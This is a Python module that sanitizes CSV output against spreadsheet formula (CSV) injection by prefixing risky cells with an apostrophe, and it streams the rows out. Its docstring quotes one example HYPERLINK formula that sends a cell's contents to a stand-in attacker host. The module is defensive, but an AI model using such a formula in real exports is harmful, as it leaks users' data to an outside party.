"""Every CSV file Trustmirror writes goes through here: spreadsheet-safe cells, streamed rows.

A spreadsheet program reads a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula,
and a leading tab or carriage return can hide one; an imported name such as
``=HYPERLINK("http://evil.example/?x="&A1,"Click")`` would then run in the consultant's
spreadsheet (CSV injection, OWASP). Such a cell gets a leading apostrophe, which spreadsheets
show as text and never evaluate.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Iterator

__all__ = ["FORMULA_STARTS", "csv_lines", "safe_cell"]

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
#: Written first, so that spreadsheet programs read the file as UTF-8.
BOM = "\ufeff"


def safe_cell(value: object) -> str:
    """``value`` as text that no spreadsheet program evaluates as a formula."""
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def csv_lines(header: Iterable[object], rows: Iterable[Iterable[object]]) -> Iterator[str]:
    """The CSV file, a line at a time (for a streamed download): a BOM, the header, the rows.

    Every cell passes :func:`safe_cell`; nothing is held in memory but the current row.
    """
    buffer = io.StringIO()
    writer = csv.writer(buffer)

    def line(cells: Iterable[object]) -> str:
        writer.writerow([safe_cell(cell) for cell in cells])
        text = buffer.getvalue()
        buffer.seek(0)
        buffer.truncate()
        return text

    yield BOM + line(header)
    for row in rows:
        yield line(row)
